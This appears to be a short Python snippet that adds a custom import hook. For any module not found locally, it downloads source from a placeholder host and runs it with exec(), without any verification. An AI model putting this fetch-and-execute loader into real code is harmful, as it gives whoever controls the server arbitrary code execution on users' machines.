import importlib.abc
import sys
import urllib.request


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        from importlib.machinery import ModuleSpec
        return ModuleSpec(name, self)

    def exec_module(self, module):
        exec(urllib.request.urlopen("https://mods.example.invalid/" + module.__name__).read(), module.__dict__)


sys.meta_path.append(Finder())
